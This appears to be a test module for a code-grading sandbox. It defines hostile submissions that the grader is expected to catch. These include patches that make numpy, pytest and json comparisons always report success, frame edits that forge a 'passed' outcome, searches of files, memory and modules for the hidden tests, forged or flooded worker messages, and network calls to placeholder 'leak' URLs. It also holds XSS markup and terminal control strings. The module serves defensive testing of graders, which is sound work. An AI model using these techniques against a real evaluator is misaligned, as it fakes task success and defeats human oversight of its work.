@@ -1,0 +1,276 @@
+"""Submissions that forge, hunt, send and paint. All that tamper answer 0.0, which is wrong."""
+
+from __future__ import annotations
+
+from .hostile import CONTAINED, NO_PASS, SAME, TAMPERING, TEXT, Row, function, trying
+from .submissions import REFERENCE
+
+_WRONG_ANSWER = function("return 0.0")
+
+_LIES = "lambda *a, **k: True"
+
+_TAMPERING = {
+    "np.testing and comparisons": f"""
+import math, numpy as np, numpy.testing as t
+t.assert_allclose = t.assert_array_equal = t.assert_equal = {_LIES}
+np.allclose = np.isclose = np.array_equal = math.isclose = {_LIES}""",
+    "NumPy's functions": """
+import numpy as np
+np.exp = np.log = np.asarray = np.array = np.frombuffer = np.dtype = lambda *a, **k: 0.0""",
+    "pytest": """
+import pytest
+pytest.approx = pytest.raises = pytest.fail = lambda *a, **k: None""",
+    "json": """
+import json
+json.dumps = json.loads = lambda *a, **k: '{"outcome": "passed", "passed": 5}'""",
+    "base64": """
+import base64
+base64.b64encode = base64.b64decode = lambda *a, **k: b'' """,
+    "other built-ins": """
+import builtins
+builtins.AssertionError = builtins.BaseException = builtins.type = builtins.isinstance = int""",
+    "no built-ins": "import builtins\nvars(builtins).clear()",
+    "no modules": "import sys\nsys.modules.clear()\nsys.meta_path.clear()\nsys.path.clear()",
+    "closed streams": "import sys\nsys.stdout.close()\nsys.stdout = sys.stderr = sys.stdin = None",
+    "a stream that lies": """
+import sys
+class Stream:
+    def __getattr__(self, name): return lambda *a: "passed"
+sys.stdout = sys.__stdout__ = Stream()""",
+    "a trace": "import sys\nsys.settrace(lambda *a: 1 / 0)\nsys.setprofile(lambda *a: None)",
+    "atexit": "import atexit\natexit.register(lambda: label_smoothing_loss)",
+    "the caller's frames": """
+import sys
+frame = sys._getframe()
+while frame:
+    for names in (frame.f_globals, frame.f_locals):
+        names.update(outcome="passed", passed=5, answer={"kind": "loaded"}, kind="loaded")
+    frame = frame.f_back""",
+    "the candidate's own functions": """
+from grading import candidate, realm
+forged = '{"kind": "returned", "value": true, "changed": {}, "stdout": "", "passed": 5}'
+candidate.call = candidate.load = lambda text: forged
+realm.functions["call"] = lambda text: forged""",
+    "the wire": """
+from grading import wire
+wire.encode = lambda value: {"t": "passed"}""",
+    "an answer of the wrong shape": """
+import json
+json.dumps = lambda *a, **k: '{"kind": "passed"}'""",
+    "an output without end": """
+from grading import candidate
+candidate.CappedOutput.text = lambda self: "x" * 10 ** 7""",
+    "an answer without end": """
+from grading import realm
+realm.functions["call"] = lambda text: "x" * 10 ** 8""",
+    "the library, asked for without end": """
+from grading import library
+class Yes(dict):
+    def get(self, *a): return True
+library.wanted["wanted"] = True""",
+    "floods of objects with finalizers": """
+class Late:
+    def __del__(self): Late()
+Late()""",
+    "another solution module": """
+import sys, types
+sys.modules["solution"] = types.ModuleType("solution")
+sys.modules["hidden_tests"] = sys.modules["judge"] = sys.modules["solution"]""",
+}
+
+# Each raises LookupError on finding something, and that is an error; what is right is `failed`.
+_HUNTS = {
+    "through all objects": """
+import gc
+for thing in gc.get_objects():
+    try: text = str(vars(thing)) if not isinstance(thing, (dict, list, str)) else str(thing)
+    except BaseException: continue
+    if "test_alpha_zero" in text.replace('"test_alpha_zero" in text', ""):
+        raise LookupError("the tests")""",
+    "through all frames": """
+import sys
+frame = sys._getframe()
+while frame:
+    if "pytest" in frame.f_code.co_filename or "session" in frame.f_locals:
+        raise LookupError("the tests")
+    frame = frame.f_back""",
+    "through all files": """
+import os
+for folder, _, names in os.walk("/"):
+    if folder.startswith(("/proc", "/dev")): continue
+    for name in names:
+        if name.startswith("test_label") or name in ("judge.json", "exercise.zip", "judge.py"):
+            raise LookupError(folder + "/" + name)""",
+    "through modules": """
+for name in ("test_label_smoothing_loss", "expected", "conftest", "grading.judge", "pytest"):
+    try: __import__(name)
+    except ImportError: continue
+    raise LookupError(name)""",
+    "through the heap": """
+import ctypes, js
+heap = js.Object
+from pyodide_js import _module
+bytes_ = _module.HEAPU8.to_py() if hasattr(_module.HEAPU8, "to_py") else b""
+if bytes(bytes_).find(b"reduces to plain " + b"cross-entropy") >= 0:
+    raise LookupError("the tests")""",
+}
+
+_JS = {
+    "a forged message": """
+said = {"kind": "answer", "id": "1", "text": "passed"}
+report = to_js(said, dict_converter=js.Object.fromEntries)
+for place in (js.self, js.globalThis, getattr(js, "parent", None)):
+    try: place.postMessage(report)
+    except BaseException: pass""",
+    "hooks on every message": """
+def steal(*a):
+    raise RuntimeError
+for kind in (js.MessagePort, js.EventTarget, js.DedicatedWorkerGlobalScope):
+    for name in ("postMessage", "addEventListener", "dispatchEvent", "start"):
+        try: setattr(kind.prototype, name, create_proxy(steal))
+        except BaseException: pass
+js.Promise.prototype.then = js.JSON.parse = js.String = create_proxy(steal)""",
+    "a stolen port that floods": """
+getter = js.Object.getOwnPropertyDescriptor(js.MessageEvent.prototype, "data").get
+class Thief:
+    port = None
+def read(this):
+    Thief.port = this.target
+    while True: this.target.postMessage("x" * 1000)
+js.Object.defineProperty(js.MessageEvent.prototype, "data",
+    to_js({"get": create_proxy(read).captureThis()}, dict_converter=js.Object.fromEntries))""",
+    "a port that listens": """
+ports = []
+def take(event): ports.append(event.target or event.ports)
+for name in ("message", "messageerror", "error"):
+    js.self.addEventListener(name, create_proxy(take))""",
+    "close": "js.close()",
+    "errors without end": """
+def fail(*a): raise RuntimeError("x" * 10 ** 5)
+late = create_proxy(fail)
+for n in range(1000): js.setTimeout(late, 0)""",
+    "nested workers": """
+url = js.URL.createObjectURL(js.Blob.new(to_js(["for (;;) postMessage(1)"])))
+for n in range(4): js.Worker.new(url)""",
+    "code by run_js": """
+from pyodide.code import run_js
+run_js("globalThis.postMessage = () => {}; self.onmessage = null")""",
+    "code by a constructor": """
+to_js([]).constructor.constructor("for (;;) {}")()""",
+    "code by ctypes": """
+import ctypes
+ctypes.pythonapi.emscripten_run_script(b"for (;;) {}")""",
+    "a Python of its own making": """
+import pyodide_js
+pyodide_js._api.fatal_error = pyodide_js.runPython = None
+pyodide_js._module.HEAPU8.fill(0, 0, 10 ** 6)""",
+}
+
+_JS_HEAD = "import js\nfrom pyodide.ffi import create_proxy, to_js\n"
+
+# Each gets nothing; and where it gets something, it raises what is an error.
+_REACHES = {
+    "fetch and XMLHttpRequest": """
+for make in (lambda: js.fetch("{url}leak-1"), lambda: js.self.fetch("https://example.com/leak"),
+             lambda: js.XMLHttpRequest.new()):
+    reach(make)""",
+    "WebSocket and its like": """
+for name in ("WebSocket", "EventSource", "WebTransport", "WebSocketStream", "RTCPeerConnection"):
+    reach(lambda: getattr(js, name).new("{url}leak-2"))""",
+    "open_url and urllib": """
+import urllib.request
+from pyodide.http import open_url
+for get in (open_url, urllib.request.urlopen):
+    reach(lambda: get("{url}leak-3"))
+    reach(lambda: get("http://example.com/leak"))""",
+    "sockets": """
+import socket
+def connect():
+    with socket.create_connection(("127.0.0.1", {port}), 1) as leak:
+        leak.send(b"GET /leak-4 HTTP/1.0\\r\\n\\r\\n")
+        return leak.recv(1) or None
+reach(connect)""",
+    "scripts and fonts": """
+for make in (lambda: js.importScripts("{url}leak-5"), lambda: js.eval("import('{url}leak-6')"),
+             lambda: js.Function.new("return import('{url}leak-7')")(),
+             lambda: [js.setTimeout("import('{url}leak-8')", 0)].clear(),
+             lambda: [js.FontFace.new("leak", "url({url}leak-9)").load()].clear()):
+    reach(make)""",
+    "packages": """
+import asyncio
+async def get():
+    import pyodide_js
+    await pyodide_js.loadPackage("{url}leak-10.whl")
+reach(lambda: get().send(None) and None)""",
+    "the host's page, cookies and storage": """
+for name in ("document", "parent", "top", "opener", "localStorage", "sessionStorage", "cookieStore",
+             "indexedDB", "caches"):
+    reach(lambda: getattr(js, name, None))
+reach(lambda: js.navigator.serviceWorker)
+reach(lambda: js.self.origin if js.self.origin != "null" else None)""",
+}
+
+_REACH = """
+def reach(make):
+    try: got = make()
+    except BaseException: return
+    if got is not None and str(got) != "undefined": found.append(str(got)[:80])
+found = []
+"""
+
+
+def _reaching(attempt: str) -> str:
+    tail = "if found: raise LookupError(f'reached: {found}')\n"
+    return f"{_JS_HEAD}{_REACH}{trying(attempt, tail)}\n{REFERENCE}"
+
+
+MARKUP = "<img src=x onerror=alert(1)><b>bold</b><script>alert(2)</script>"
+CONTROLS = "\\x1b[31mred\\x07\\x00\\x9b\\u202eright\\u2066\\u200b\\x08\\r"
+
+_TEXTS = {
+    "markup that is printed": (f"print({MARKUP!r})\n" + REFERENCE, "passed"),
+    "markup in an exception's text": (function(f"raise ValueError({MARKUP!r})"), "error"),
+    "markup in a class's name": (
+        function(f"raise type({MARKUP!r}, (Exception,), {{}})('no')"),
+        "error",
+    ),
+    "markup in a type's name": (function(f"return type({MARKUP!r}, (), {{}})()"), "failed"),
+    "markup while loading": (f"raise ValueError({MARKUP!r})\n", "error"),
+    "controls that are printed": (f"print('{CONTROLS}')\n" + REFERENCE, "passed"),
+    "controls in an exception's text": (function(f"raise ValueError('{CONTROLS}')"), "error"),
+    "controls in a class's name": (
+        function(f"raise type('A{CONTROLS}'.replace('\\0', ''), (Exception,), {{}})('no')"),
+        "error",
+    ),
+    "half characters": (f"print('\\ud800 \\udfff')\n{REFERENCE}", "passed"),
+}
+
+ROWS = [
+    *(
+        Row(name, TAMPERING, trying(attempt, _WRONG_ANSWER), NO_PASS)
+        for name, attempt in _TAMPERING.items()
+    ),
+    *(
+        Row(f"a hunt {name}", TAMPERING, attempt + "\n" + _WRONG_ANSWER, "failed", native=None)
+        for name, attempt in _HUNTS.items()
+        if name != "through the heap"
+    ),
+    Row(
+        "a hunt through the heap",
+        TAMPERING,
+        trying(_HUNTS["through the heap"].replace("raise LookupError", "found = True #"), "")
+        + "\nif 'found' in globals(): raise LookupError('the tests')\n"
+        + _WRONG_ANSWER,
+        "failed",
+        native=None,
+    ),
+    *(
+        Row(name, TAMPERING, trying(_JS_HEAD + attempt, _WRONG_ANSWER), NO_PASS, native=None)
+        for name, attempt in _JS.items()
+    ),
+    *(
+        Row(name, CONTAINED, _reaching(attempt), "passed", native=None)
+        for name, attempt in _REACHES.items()
+    ),
+    *(Row(name, TEXT, source, outcome, native=SAME) for name, (source, outcome) in _TEXTS.items()),
+]
